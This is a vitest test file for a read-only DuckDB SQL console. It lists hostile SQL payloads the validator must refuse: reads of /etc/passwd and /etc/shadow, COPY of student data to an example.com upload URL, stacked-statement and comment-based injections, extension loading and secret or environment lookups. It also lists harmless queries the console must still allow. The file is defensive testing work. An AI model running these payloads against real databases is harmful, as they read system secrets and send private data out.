/**
 * The read-only SQL console against hostile queries: readOnlyViolation refuses writes, files, URLs,
 * extensions and settings (however spelled), and the command-line engine, with external access
 * off, cannot read a file even when a query gets past the check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readOnlyViolation } from '../../src/core/sql/read-only.ts';
import type { Engine } from '../../src/db/engine.ts';
import { freshEngine } from '../helpers.ts';

/** Payloads the console must refuse. */
const HOSTILE_SQL = [
  "ATTACH '/tmp/x.db' AS x",
  "attach 'https://example.com/x.duckdb'",
  "COPY schools TO '/tmp/schools.csv'",
  "COPY (SELECT * FROM student_results) TO 'https://example.com/upload'",
  'INSTALL httpfs',
  'LOAD httpfs',
  "EXPORT DATABASE '/tmp/dump'",
  "IMPORT DATABASE '/tmp/dump'",
  'INSERT INTO schools (school_id) VALUES (1)',
  "UPDATE schools SET name = 'x'",
  'DELETE FROM student_results',
  'DROP TABLE imports',
  'CREATE TABLE t AS SELECT 1',
  'ALTER TABLE schools ADD COLUMN x INT',
  'SET enable_external_access = true',
  'PRAGMA enable_profiling',
  'CHECKPOINT',
  'BEGIN TRANSACTION',
  "SELECT * FROM read_csv('/etc/passwd')",
  "SELECT * FROM read_csv_auto('/etc/passwd')",
  "SELECT * FROM READ_CSV('/etc/passwd')",
  "SELECT * FROM read_text('/etc/passwd')",
  "SELECT * FROM read_blob('/etc/shadow')",
  "SELECT * FROM read_json('https://example.com/a.json')",
  "SELECT * FROM read_json_objects('https://example.com/a.json')",
  "SELECT * FROM read_parquet('https://example.com/a.parquet')",
  "SELECT * FROM parquet_schema('https://example.com/a.parquet')",
  "SELECT * FROM glob('/home/*')",
  "SELECT * FROM sniff_csv('/etc/passwd')",
  "SELECT * FROM 'https://example.com/data.csv'",
  "SELECT * FROM 'http://example.com/data.csv'",
  "FROM '/etc/passwd'",
  "SELECT * FROM schools, 'https://example.com/x.csv'",
  "SELECT * FROM schools JOIN 'x.parquet' USING (school_id)",
  'SELECT * FROM "data.csv"',
  "SELECT * FROM ( 'x.json' )",
  "SUMMARIZE 'https://example.com/x.csv'",
  "DESCRIBE '/etc/passwd'",
  "SELECT http_get('http://example.com')",
  "SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')",
  "SELECT * FROM query_table('schools')",
  "SELECT * FROM read_csv($$/etc/passwd$$)",
  'SELECT * FROM $$x.csv$$',
  "SELECT * FROM E'\\x2fetc\\x2fpasswd'",
  "SELECT 1; ATTACH 'x.db'",
  "SELECT 1 /* */; COPY schools TO 'x'",
  "SELECT '--'; DROP TABLE schools",
  "WITH x AS (SELECT 1) INSERT INTO schools SELECT * FROM x",
  'SELECT * FROM duckdb_secrets()',
  "SELECT getenv('HOME')",
  'CALL pragma_version()',
  'USE memory',
  'VACUUM',
  "/* ' */ COPY schools TO 'x' -- '",
];

/** Queries that must still be allowed (a few look suspicious but are data). */
const HARMLESS_SQL = [
  "SELECT * FROM imports WHERE file_name = 'vpr-2021.csv'",
  "SELECT * FROM imports WHERE file_name IN ('a.csv', 'b.csv')",
  "SELECT 'copy; attach; read_csv' AS text",
  "SELECT * FROM schools s JOIN school_results r ON s.school_id = r.school_id WHERE s.name LIKE '%.txt'",
  'SELECT * FROM "schools"',
  "SELECT count(*) FROM school_results, schools WHERE schools.name <> 'x.csv'",
];

describe('readOnlyViolation refuses every hostile payload with a Russian reason', () => {
  it.each(HOSTILE_SQL)('%s', (sql) => {
    const reason = readOnlyViolation(sql);
    expect(reason).toBeDefined();
    expect(reason).toMatch(/[а-яё]/i);
  });

  it.each(HARMLESS_SQL)('still allows %s', (sql) => {
    expect(readOnlyViolation(sql)).toBeUndefined();
  });
});

describe('the command-line engine cannot read files even past the check', () => {
  let engine: Engine;
  beforeAll(async () => {
    engine = await freshEngine();
    await engine.exec('SET enable_external_access = false; SET lock_configuration = true');
  });
  afterAll(() => engine.close());

  it.each(["SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/hostname')", "SELECT * FROM '/etc/passwd.csv'"])('%s fails in the engine', async (sql) => {
    await expect(engine.query(sql)).rejects.toThrow();
  });

  it('and cannot turn external access back on', async () => {
    await expect(engine.exec('SET enable_external_access = true')).rejects.toThrow();
  });

  it('the harmless queries run', async () => {
    for (const sql of HARMLESS_SQL) await engine.query(sql);
  });
});
